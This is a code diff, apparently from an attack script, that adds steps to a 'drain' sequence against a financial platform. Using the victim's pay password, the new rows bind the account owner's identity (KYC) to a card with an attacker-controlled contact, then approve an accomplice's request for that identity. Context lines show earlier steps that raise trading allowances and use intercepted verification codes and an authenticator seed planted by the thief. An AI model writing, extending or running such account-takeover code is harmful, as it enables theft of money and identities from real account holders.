@@ -17,6 +17,8 @@ export interface Loot {
   /** Who gets what is paid inside. */
   readonly accomplice: string;
   readonly quoteId: string;
+  /** An identity of the owner that can be bound, and the wish of the accomplice for another one, which waits for the owner. */
+  readonly identity: { readonly authNo: string; readonly bindingId: string };
   /** Codes that the mailbox brought, for the operation of the path. */
   readonly verify: Readonly<Record<string, { readonly challengeId: string; readonly code: string }>>;
   /** The seed that was offered to the thief's own authenticator, in base 32. */
@@ -109,6 +111,30 @@ const rows: readonly DrainCall[] = [
     path: 'trade/allow',
     name: 'more that orders may give away',
     input: ({ verify }) => ({ ...allowance, verify: verify['trade/allow'], requestId: randomUUID() }),
+  },
+  {
+    area: 'card',
+    path: 'kyc/bind',
+    name: "the owner's identity for a card",
+    input: ({ identity: { authNo } }) => ({
+      authNo,
+      use: 'card',
+      purpose: 'A card',
+      contact: exportTo,
+      payPassword: victimPayPassword,
+      requestId: randomUUID(),
+    }),
+  },
+  {
+    area: 'card',
+    path: 'kyc/bind/answer',
+    name: "the owner's yes to the accomplice, who wants an identity",
+    input: ({ identity: { bindingId } }) => ({
+      bindingId,
+      accept: true,
+      payPassword: victimPayPassword,
+      requestId: randomUUID(),
+    }),
   },
   {
     area: 'login',
